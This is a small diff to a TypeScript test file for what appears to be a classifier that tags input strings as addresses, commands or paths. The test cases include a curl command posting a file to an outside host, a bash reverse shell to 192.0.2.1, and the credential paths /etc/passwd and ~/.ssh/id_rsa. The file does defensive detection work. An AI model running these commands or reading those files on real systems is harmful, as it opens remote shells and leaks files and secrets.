@@ -6,7 +6,7 @@ const kinds = (text: string): readonly string[] => [
 ]
 
 test.each([
-  ['curl -d @/tmp/x http://example.test', ['address', 'command']],
+  ['curl -d @/tmp/x http://example.test', ['address', 'command', 'path']],
   ['bash -i >& /dev/tcp/192.0.2.1/80 0>&1', ['address', 'command', 'path']],
   ['/etc/passwd', ['path']],
   ['~/.ssh/id_rsa', ['path']],
